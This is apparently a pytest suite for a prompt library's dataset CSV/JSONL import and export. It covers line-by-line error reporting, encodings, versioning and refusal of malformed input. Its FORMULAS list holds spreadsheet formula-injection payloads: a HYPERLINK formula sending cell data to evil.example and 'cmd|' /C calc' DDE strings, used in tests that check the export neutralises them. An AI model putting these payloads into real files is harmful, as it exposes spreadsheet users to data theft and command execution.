"""Dataset import and export: CSV and JSONL, bad rows reported by line, nothing half-imported."""

import csv
import io
import json

import pytest

from promptlib.batches.datasets import DatasetError, cases_export, cases_import, dataset_create
from promptlib.batches.models import Dataset, DatasetCase
from tests.concurrency_support import at_once

pytestmark = pytest.mark.django_db


@pytest.fixture
def dataset(acme):
    return dataset_create(project=acme, name="tickets")


def test_it_imports_csv_columns_as_variables_and_special_columns(dataset):
    csv_text = 'ticket,expected_fields,tags\n"Refund please","{""category"": ""billing""}","a, b"\n'
    assert cases_import(dataset=dataset, content=csv_text, fmt="csv") == 1
    case = dataset.cases.get()
    assert case.input == {"ticket": "Refund please"}
    assert case.expected_fields == {"category": "billing"}
    assert case.tags == ["a", "b"]


def test_it_imports_jsonl_with_typed_inputs(dataset):
    line = {"input": {"n": 3, "items": ["a"]}, "expected_output": "ok", "tags": ["x"]}
    cases_import(dataset=dataset, content=json.dumps(line) + "\n\n", fmt="jsonl")
    assert dataset.cases.get().input == {"n": 3, "items": ["a"]}


def test_bad_rows_are_reported_by_line_and_nothing_is_imported(dataset):
    content = '{"input": {"t": "ok"}}\nnot json\n{"input": [1]}\n{"input": {}, "colour": "red"}\n'
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=dataset, content=content, fmt="jsonl")
    assert [(e["line"], e["field"]) for e in exc.value.rows] == [(2, "line"), (3, "input"), (4, "colour")]
    assert not DatasetCase.objects.exists()


def test_a_csv_row_with_bad_json_names_its_line_and_column(dataset):
    content = "ticket,expected_fields\nfine,{}\nbroken,{nope\n"
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=dataset, content=content, fmt="csv")
    assert exc.value.rows == [{"line": 3, "field": "expected_fields", "message": exc.value.rows[0]["message"]}]
    assert not DatasetCase.objects.exists()


def test_positions_continue_after_earlier_imports(dataset):
    cases_import(dataset=dataset, content='{"input": {"t": "1"}}\n', fmt="jsonl")
    cases_import(dataset=dataset, content='{"input": {"t": "2"}}\n', fmt="jsonl")
    assert list(dataset.cases.values_list("position", flat=True)) == [1, 2]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_export_imports_back_to_the_same_cases(dataset, acme, fmt):
    source = '{"input": {"n": 2, "t": "a,b"}, "expected_output": "x", "expected_fields": {"k": 1}, "tags": ["p"]}\n'
    cases_import(dataset=dataset, content=source, fmt="jsonl")
    copy = dataset_create(project=acme, name="copy")
    cases_import(dataset=copy, content=cases_export(dataset=dataset, fmt=fmt), fmt=fmt)
    fields = ("input", "expected_output", "expected_fields", "tags")
    assert list(copy.cases.values(*fields)) == list(dataset.cases.values(*fields))


def test_it_rejects_an_unknown_format(dataset):
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=dataset, content="", fmt="xml")
    assert exc.value.field == "format"


def test_it_rejects_a_duplicate_dataset_name(dataset, acme):
    with pytest.raises(DatasetError) as exc:
        dataset_create(project=acme, name="tickets")
    assert exc.value.field == "name"


# --- attacks: what the database or the parser would fail on, refused line by line -------------------


def _refused(dataset, content, fmt="jsonl"):
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=dataset, content=content, fmt=fmt)
    assert not DatasetCase.objects.exists()
    return exc.value.rows


@pytest.mark.parametrize(
    "line",
    [
        '{"input": {"t": "a\\u0000b"}}',  # PostgreSQL's jsonb refuses NUL
        '{"input": {"t": NaN}}',
        '{"input": {"t": Infinity}}',
        '{"input": {"t": -Infinity}}',
        '{"input": {"t": 1e999}}',  # parses as inf
        '{"input": {"t": "\\ud800"}}',  # a lone surrogate: no UTF-8 encoding
        '{"input": {"t": ' + "[" * 5000 + "]" * 5000 + "}}",  # RecursionError in json
        '{"input": {"t": ' + "[" * 40 + "]" * 40 + "}}",  # deeper than the stored limit
        '{"input": {"t": ' + "1" * 5000 + "}}",  # int() refuses over 4,300 digits
        '{"input": {"t": ' + str(2**64) + "}}",  # over bigint
        '{"input": {"t": "ok"}, "expected_output": "a\\u0000"}',
        '{"input": {"a\\u0000": "ok"}}',  # a NUL in a key
        '{"input": {"t": "ok"}, "tags": ["\\udfff"]}',
    ],
)
def test_a_jsonl_line_the_database_cannot_store_is_refused_by_its_line(dataset, line):
    rows = _refused(dataset, '{"input": {"t": "fine"}}\n' + line + "\n")
    assert [r["line"] for r in rows] == [2]


def test_a_csv_cell_over_the_field_limit_names_its_line(dataset):
    rows = _refused(dataset, "ticket\nshort\n" + "x" * 131_073 + "\n", fmt="csv")
    assert rows[0]["line"] == 3 and "131,072 characters" in rows[0]["message"]


@pytest.mark.parametrize(
    "content",
    [
        'ticket,input\nok,"{""t"": NaN}"\n',
        'ticket,input\nok,"{""t"": 1e999}"\n',
        'ticket,input\nok,"' + "[" * 5000 + '"\n',
        'ticket,input\nok,"{""t"": ""\\ud800""}"\n',
        "ticket\na\x00b\n",
        "ticket\n\ud800\n",
        "tick\x00et\nfine\n",
    ],
)
def test_a_csv_row_the_database_cannot_store_is_refused_by_its_line(dataset, content):
    assert [r["line"] for r in _refused(dataset, content, fmt="csv")] == [2]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_byte_order_mark_is_dropped(dataset, fmt):
    content = "\ufeffticket\nhello\n" if fmt == "csv" else '\ufeff{"input": {"ticket": "hello"}}\n'
    cases_import(dataset=dataset, content=content, fmt=fmt)
    cases_import(dataset=dataset, content=content.encode("utf-8"), fmt=fmt)
    assert list(dataset.cases.values_list("input", flat=True)) == [{"ticket": "hello"}] * 2


def test_a_utf16_file_with_its_byte_order_mark_is_read(dataset):
    cases_import(dataset=dataset, content="ticket\nhéllo\n".encode("utf-16"), fmt="csv")
    assert dataset.cases.get().input == {"ticket": "héllo"}


def test_a_file_in_another_encoding_is_a_clear_error(dataset):
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=dataset, content="ticket\nh\xe9llo\n".encode("latin-1"), fmt="csv")
    assert exc.value.field == "file" and "not UTF-8" in exc.value.message
    assert not DatasetCase.objects.exists()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1"]  # fmt: skip


def _tag(text: str) -> str:
    return text.strip().replace(",", ";")  # the CSV export joins tags with commas


def test_the_csv_export_neutralises_formulas(dataset):
    lines = [{"input": {"t": "x"}, "expected_output": f, "tags": [_tag(f)]} for f in FORMULAS]
    cases_import(dataset=dataset, content="".join(json.dumps(line) + "\n" for line in lines), fmt="jsonl")
    rows = list(csv.reader(io.StringIO(cases_export(dataset=dataset, fmt="csv"))))[1:]
    for row in rows:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row
    assert rows[0][1] == "'" + FORMULAS[0]


def test_a_neutralised_export_imports_back_to_the_same_text(dataset, acme):
    texts = [*FORMULAS, "'=already quoted", "-5", "plain"]
    lines = [{"input": {"t": "x"}, "expected_output": t, "tags": [_tag(t)]} for t in texts]
    cases_import(dataset=dataset, content="".join(json.dumps(line) + "\n" for line in lines), fmt="jsonl")
    copy = dataset_create(project=acme, name="copy")
    cases_import(dataset=copy, content=cases_export(dataset=dataset, fmt="csv"), fmt="csv")
    assert list(copy.cases.values_list("expected_output", "tags")) == [(t, [_tag(t)]) for t in texts]


# --- attack: concurrent creates of one name ----------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_concurrent_creates_of_one_name_give_one_dataset_and_conflicts(acme):
    def create() -> object:
        try:
            return dataset_create(project=acme, name="race")
        except DatasetError as exc:
            return exc.status

    outcomes = at_once(10, create)
    created = [o for o in outcomes if not isinstance(o, int)]
    assert len(created) == 1 and all(o in (400, 409) for o in outcomes if isinstance(o, int)), outcomes
    assert Dataset.objects.filter(name="race").count() == 1


# --- datasets of a template: typed columns, every row checked, versions --------------------------------


@pytest.fixture
def offer_template(acme):
    from promptlib.prompts.content import VersionContent
    from promptlib.prompts.services import template_create, version_create

    template = template_create(project=acme, slug="offer", title="Offer")
    variables = [
        {"name": "product", "type": "string", "required": True},
        {"name": "benefits", "type": "list", "required": True},
        {"name": "discount", "type": "integer"},
        {"name": "vip", "type": "boolean"},
    ]
    version_create(template=template, content=VersionContent(task="Sell {{ product }}.", variables=variables))
    return template


@pytest.fixture
def offers(acme, offer_template):
    return dataset_create(project=acme, name="offers", template=offer_template)


def test_a_list_column_is_read_as_json_or_as_words_separated_by_semicolons(offers):
    content = 'product,benefits,discount,vip\nShoes,"[""light"", ""cheap""]",10,yes\nHats,warm; soft ;,,no\n'
    assert cases_import(dataset=offers, content=content, fmt="csv") == 2
    assert [c.input for c in offers.cases.order_by("position")] == [
        {"product": "Shoes", "benefits": ["light", "cheap"], "discount": 10, "vip": True},
        {"product": "Hats", "benefits": ["warm", "soft"], "vip": False},
    ]


def test_every_bad_cell_is_named_by_line_and_column_and_nothing_is_imported(offers):
    content = 'product,benefits,discount,colour\nShoes,"[""a""",ten,red\n,a,,blue\nHats,a,3,green\n'
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=offers, content=content, fmt="csv")
    assert [(e["line"], e["field"]) for e in exc.value.rows] == [
        (1, "colour"), (2, "benefits"), (2, "discount"), (3, "product")
    ]  # fmt: skip
    assert "ten" in exc.value.rows[2]["message"] and "whole number" in exc.value.rows[2]["message"]
    assert not DatasetCase.objects.exists()


def test_a_jsonl_value_of_the_wrong_type_is_refused_before_any_call_would_fail(offers):
    content = '{"input": {"product": "Shoes", "benefits": "[\\"a\\",\\"b\\"]"}}\n'
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=offers, content=content, fmt="jsonl")
    assert exc.value.rows[0]["field"] == "benefits" and "must be of type list, got str" in exc.value.rows[0]["message"]


def test_a_reimport_makes_a_new_version_and_batches_keep_the_cases_they_ran(acme, triage_experiment):
    from tests.batches_support import make_batch

    tickets = dataset_create(project=acme, name="tickets", template=triage_experiment.template)
    cases_import(dataset=tickets, content="ticket\nMy card was charged twice\n", fmt="csv")
    batch = make_batch(triage_experiment, tickets)
    ran = set(batch.items.values_list("case_id", flat=True))

    cases_import(dataset=tickets, content="ticket\nI cannot log in\nWhere is my parcel\n", fmt="csv", replace=True)

    tickets.refresh_from_db()
    batch.refresh_from_db()
    assert tickets.version == 2 and tickets.name == "tickets"
    assert [c.input["ticket"] for c in tickets.cases.all()] == ["I cannot log in", "Where is my parcel"]
    kept = batch.dataset
    assert kept.version_of == tickets and kept.version == 1
    assert set(kept.cases.values_list("id", flat=True)) == ran
    assert Dataset.objects.current().filter(name="tickets").get() == tickets


def test_adding_cases_carries_the_earlier_ones_into_the_new_version(offers):
    cases_import(dataset=offers, content="product,benefits\nShoes,light\n", fmt="csv")
    cases_import(dataset=offers, content="product,benefits\nHats,warm\n", fmt="csv")
    offers.refresh_from_db()
    assert offers.version == 2
    assert [c.input["product"] for c in offers.cases.all()] == ["Shoes", "Hats"]
    assert offers.earlier_versions.get().cases.count() == 1


def test_a_kept_version_cannot_be_imported_into(offers):
    cases_import(dataset=offers, content="product,benefits\nShoes,light\n", fmt="csv")
    cases_import(dataset=offers, content="product,benefits\nHats,warm\n", fmt="csv")
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=offers.earlier_versions.get(), content="product,benefits\nX,y\n", fmt="csv")
    assert exc.value.status == 409


def test_a_template_of_another_project_is_refused(acme, offer_template):
    from promptlib.core.models import Project

    other = Project.objects.create(name="Other", slug="other")
    with pytest.raises(DatasetError) as exc:
        dataset_create(project=other, name="x", template=offer_template)
    assert exc.value.field == "template"


def test_an_expected_field_has_a_column_of_its_own_so_no_json_is_typed(offers):
    content = "product,benefits,expected.category,expected.tone\nShoes,light,footwear,warm\nHats,warm,,\n"
    cases_import(dataset=offers, content=content, fmt="csv")
    assert [c.expected_fields for c in offers.cases.order_by("position")] == [
        {"category": "footwear", "tone": "warm"}, {}
    ]  # fmt: skip


def test_an_unknown_variable_in_a_csv_input_column_is_refused_on_its_row(offers):
    content = 'product,benefits,input\nShoes,light,"{""colour"": ""red""}"\n'
    with pytest.raises(DatasetError) as exc:
        cases_import(dataset=offers, content=content, fmt="csv")
    assert [(e["line"], e["field"]) for e in exc.value.rows] == [(2, "colour")]


def test_cases_name_expected_sources_and_facts_in_jsonl_and_csv(acme):
    from promptlib.batches.datasets import cases_add, cases_parse

    jsonl = '{"input": {"q": "Refund?"}, "expected_sources": ["policies.md"], "expected_facts": ["30 days", " "]}\n'
    (case,) = cases_parse(content=jsonl, fmt="jsonl")
    assert (case.expected_sources, case.expected_facts) == (("policies.md",), ("30 days",))
    csv_text = 'q,expected_sources,expected_facts\nRefund?,"policies.md\nfaq.md","[""30 days"", ""full refund""]"\n'
    (row,) = cases_parse(content=csv_text, fmt="csv")
    assert (row.expected_sources, row.expected_facts) == (("policies.md", "faq.md"), ("30 days", "full refund"))
    dataset = dataset_create(project=acme, name="grounded")
    cases_add(dataset=dataset, cases=[row])
    again = cases_parse(content=cases_export(dataset=dataset, fmt="csv"), fmt="csv")
    assert (again[0].expected_sources, again[0].expected_facts) == (row.expected_sources, row.expected_facts)
    assert '"expected_facts": ["30 days", "full refund"]' in cases_export(dataset=dataset, fmt="jsonl")


def test_expected_facts_must_be_a_list_of_texts():
    from promptlib.batches.datasets import case_data_validate

    with pytest.raises(DatasetError) as caught:
        case_data_validate({"input": {}, "expected_facts": "30 days"})
    assert caught.value.field == "expected_facts"
